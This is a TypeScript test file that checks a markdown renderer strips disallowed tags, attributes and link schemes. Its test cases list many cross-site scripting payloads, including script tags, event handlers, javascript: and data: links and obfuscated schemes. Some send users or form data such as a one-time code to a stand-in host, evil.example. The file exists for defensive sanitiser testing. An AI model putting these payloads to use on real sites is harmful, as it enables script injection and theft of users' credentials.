import fc from "fast-check";
import { Parser } from "htmlparser2";
import { expect, test } from "vitest";
import { holds } from "../../../tests/support/properties.ts";
import { renderMarkdown } from "./markdown.ts";

const signs = [
  ..."*_~`#>-|[]()!<>&\"'\\:= \n\t",
  ...[
    "\n\n",
    "| --- |",
    "](javascript:alert(1))",
    "](/News)",
    "<b onclick=x>",
    "<script>",
    "&#106;",
    "&lt;",
    "- ",
    "1. ",
    "```",
    "फीस",
  ],
];
const markdown = fc
  .array(fc.oneof(fc.constantFrom(...signs), fc.string({ unit: "grapheme", maxLength: 8 })), {
    size: "large",
    maxLength: 40,
  })
  .map((parts) => parts.join(""));

const tags =
  "h2 h3 h4 p ul ol li strong em a blockquote hr br code del table caption thead tbody tr th td div span".split(" ");
const attributes = "href rel start scope class data-head tabindex role aria-label lang".split(" ");

function read(html: string) {
  const seen = { tags: new Set<string>(), attributes: new Set<string>(), links: new Set<string>(), text: "" };
  const parser = new Parser({
    onopentag(name, given) {
      seen.tags.add(name);
      for (const attribute of Object.keys(given)) seen.attributes.add(attribute);
      if (given.href !== undefined) seen.links.add(given.href);
    },
    ontext(text) {
      seen.text += text;
    },
  });
  parser.end(html);
  return seen;
}

function expectClean(html: string) {
  const seen = read(html);
  expect([...seen.tags].filter((tag) => !tags.includes(tag))).toEqual([]);
  expect([...seen.attributes].filter((name) => !attributes.includes(name))).toEqual([]);
  for (const link of seen.links) {
    // As a browser reads an address: without what it leaves out.
    const scheme = /^[a-z][a-z0-9+.-]*:/i.exec(link.replaceAll(/[\p{Cc}\s]/gu, ""))?.[0].toLowerCase();
    expect([undefined, "http:", "https:", "mailto:", "tel:"]).toContain(scheme);
  }
}

test("whatever is written, no other tags, attributes and links come out, in either language", () => {
  holds<[string, "en" | "hi"]>(markdown, fc.constantFrom("en", "hi"), (text, language) => {
    expectClean(renderMarkdown(text, language));
  });
});

const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java&#115;cript:alert(1)",
  "javascript&colon;alert(1)",
  "&#x6A;avascript:alert(1)",
  "\u0001javascript:alert(1)",
  "java\tscript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "file:///etc/passwd",
  "blob:x",
];

test.each([
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  "Text <script>alert(1)</script> in a line",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<svg onload=alert(1)><animate onbegin=alert(1)>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<style>body{display:none}</style>",
  '<p style="position:fixed;inset:0">over all</p>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<form action="//evil.example"><input name=otp></form>',
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  "<!--><script>alert(1)</script>-->",
  "<details open ontoggle=alert(1)>",
  "# <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | c |",
  '| "><script>alert(1)</script> | b |\n| --- | --- |\n| a | c |',
  "> <video><source onerror=alert(1)></video>",
  "`<script>alert(1)</script>`",
  "```\n<script>alert(1)</script>\n```",
  "![a picture](x.jpg)",
  '![x](x "onerror=alert(1)")',
  '![" onerror="alert(1)](x)',
  '[x](/a "onmouseover=alert(1)")',
  '[x](/a"onmouseover="alert(1))',
  "[x](<javascript:alert(1)>)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  ...addresses.map((address) => `[x](${address})`),
])("nothing that does harm comes out of %j", (hostile) => {
  expectClean(renderMarkdown(hostile));
});

test("no word of a text is lost, whichever marks stand around it", () => {
  const words = fc.array(fc.constantFrom("river", "school", "fees", "विद्यालय"), { minLength: 1, maxLength: 8 });
  const around = fc.constantFrom("**", "_", "~~", " ", "\n", "\n\n", "- ", "## ", "> ", "| ", "(", "]", "<b>", "&");
  holds<[string[], string[]]>(words, fc.array(around, { maxLength: 8 }), (list, marks) => {
    const text = list.map((one, at) => ` ${marks[at] ?? ""}${one}${marks[at + 1] ?? ""} `).join("");
    const { text: shown } = read(renderMarkdown(text));
    for (const one of new Set(list)) expect(shown.split(one).length).toBeGreaterThanOrEqual(text.split(one).length);
  });
});
